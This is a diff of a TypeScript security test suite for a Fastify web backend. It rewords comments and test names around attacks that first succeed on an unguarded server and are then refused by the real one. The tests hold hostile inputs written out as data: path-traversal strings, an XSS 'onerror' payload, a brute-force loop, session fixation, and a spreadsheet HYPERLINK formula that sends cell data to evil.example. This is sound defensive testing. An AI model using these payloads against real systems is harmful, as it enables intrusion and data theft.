@@ -13,8 +13,8 @@ import { failurePage } from './http/failure-page.ts'
 import { TEST_PASSWORD, type TestBff, startTestBff } from './test-bff.ts'
 import { WEBHOOK_SECRET } from './test-stack.ts'
 
-// Each attack first succeeds on a server that lacks the guard, so that a test of a guard is known to attack.
-// Requests of other sites have their twin in http/same-origin.spec.ts.
+// Each attack first succeeds on a server that lacks the guard, which proves that the test really attacks.
+// The attacks by requests of other sites are in http/same-origin.spec.ts.
 
 const SECRET = 'outside of the folder'
 const JSON_BODY = { 'content-type': 'application/json' }
@@ -38,7 +38,7 @@ afterEach(async () => {
   await Promise.all(twins.splice(0).map((twin) => twin.close()))
 })
 
-/** A server without the guard. @returns its origin */
+/** Starts a server without the guard. @returns its origin */
 async function twin(build: (app: FastifyInstance) => void, bodyLimit?: number): Promise<string> {
   const app = fastify(bodyLimit === undefined ? {} : { bodyLimit })
   twins.push(app)
@@ -46,7 +46,7 @@ async function twin(build: (app: FastifyInstance) => void, bodyLimit?: number): 
   return app.listen({ host: '127.0.0.1', port: 0 })
 }
 
-/** The answer to a request whose path and host no client library has cleaned. */
+/** The answer to a request whose path and host no client library has normalised. */
 async function raw(origin: string, path: string, host = '127.0.0.1'): Promise<string> {
   const socket = connect(Number(new URL(origin).port), '127.0.0.1')
   socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
@@ -63,7 +63,7 @@ const signIn = (origin: string, email: string, password: string, headers: Record
 describe('a name that was re-pointed at this machine', () => {
   const read = async (origin: string) => (await raw(origin, '/metrics', 'evil.example')).slice(9, 12)
 
-  test('reads what is for this machine alone, where nobody looks at the name', async () => {
+  test('reads what only this machine may read, if the host name is not checked', async () => {
     expect(await read(await twin((app) => app.get('/metrics', () => 'patio_open_purchases 3')))).toBe('200')
   })
   test('is refused under that name', async () => {
@@ -74,7 +74,7 @@ describe('a name that was re-pointed at this machine', () => {
 describe('a path that climbs out of the folder', () => {
   const paths = ['/../secret.txt', '/..%2fsecret.txt', '/%2e%2e/secret.txt', '/assets/..%2f..%2fsecret.txt']
 
-  test('reads a file beside it, where the path is joined as it came', async () => {
+  test('reads a file outside the folder, if the path is joined unchecked', async () => {
     const origin = await twin((app) =>
       app.get('/*', async ({ url }) => readFile(join(dataDir, 'dist', decodeURIComponent(url)), 'utf8')),
     )
@@ -88,7 +88,7 @@ describe('a path that climbs out of the folder', () => {
 describe('a body of megabytes', () => {
   const send = async (origin: string) => (await signIn(origin, 'x'.repeat(3_000_000), 'a password')).status
 
-  test('is read to its end, where nothing limits it', async () => {
+  test('is read completely, if nothing limits it', async () => {
     let read = 0
     const origin = await twin((app) => {
       app.post(CONSOLE_PATHS.signIn, ({ body }) => {
@@ -105,13 +105,13 @@ describe('a body of megabytes', () => {
 })
 
 describe('a password that is tried out', () => {
-  /** Which guess got in, if any. */
+  /** The status of a sign-in with the right password after many wrong guesses. */
   const guess = async (origin: string, email: string) => {
     for (let wrong = 0; wrong < 12; wrong += 1) await signIn(origin, email, `wrong number ${wrong}`)
     return (await signIn(origin, email, TEST_PASSWORD)).status
   }
 
-  test('is found, where guesses are not counted', async () => {
+  test('is found, if guesses are not counted', async () => {
     const origin = await twin((app) =>
       app.post<{ Body: { password: string } }>(CONSOLE_PATHS.signIn, ({ body }, reply) =>
         reply.code(body.password === TEST_PASSWORD ? 200 : 401).send(),
@@ -119,7 +119,7 @@ describe('a password that is tried out', () => {
     )
     expect(await guess(origin, 'ana@loja.example')).toBe(200)
   })
-  test('is not taken any more, although it is the right one', async () => {
+  test('is refused after too many guesses, although it is right', async () => {
     expect(await guess(bff.url, await bff.addPerson('buyer'))).toBe(429)
   })
 })
@@ -133,7 +133,7 @@ describe('a session that the attacker chose', () => {
     return ((await answer.json()) as { person: unknown }).person !== null
   }
 
-  test('is signed in with the victim, where a sign-in keeps the cookie', async () => {
+  test('is signed in with the victim, if a sign-in keeps the cookie', async () => {
     const signedIn = new Set<string>()
     const origin = await twin((app) => {
       app.post(CONSOLE_PATHS.signIn, ({ headers }) => {
@@ -155,7 +155,7 @@ describe('a script in the words of the service', () => {
   const message = '<img src=x onerror="alert(1)">'
   const error = { code: 'X', message, retryable: false, requestId: message, charged: 'no' } as const
 
-  test('is an element of a page that puts them in as they are', () => {
+  test('becomes an element of a page that inserts the words unescaped', () => {
     const page = (of: typeof error) => `<p>${of.message}</p>`
     expect(page(error)).toContain('<img')
   })
@@ -167,7 +167,7 @@ describe('a script in the words of the service', () => {
 describe('a formula in a name', () => {
   const name = '=HYPERLINK("https://evil.example/?"&A1)'
 
-  test('is one in a table that writes its cells as they are', () => {
+  test('stays a formula in a table that writes its cells unescaped', () => {
     expect(stringify([[name]])).toMatch(/^"?=/)
   })
   test('is text', () => {
@@ -189,10 +189,10 @@ describe('a delivery that somebody made up', () => {
     return (await fetch(`${origin}${CONSOLE_PATHS.webhook}`, { method: 'POST', headers, body })).ok
   }
 
-  test('is taken, where nobody checks who has signed it', async () => {
+  test('is accepted, if the signature is not checked', async () => {
     expect(await deliver(await twin((app) => app.post(CONSOLE_PATHS.webhook, () => ({}))), 'mine')).toBe(true)
   })
-  test('is refused, unlike one of the service', async () => {
+  test('is refused, unlike a delivery of the service', async () => {
     expect(await deliver(bff.url, 'mine')).toBe(false)
     expect(await deliver(bff.url, WEBHOOK_SECRET)).toBe(true)
   })
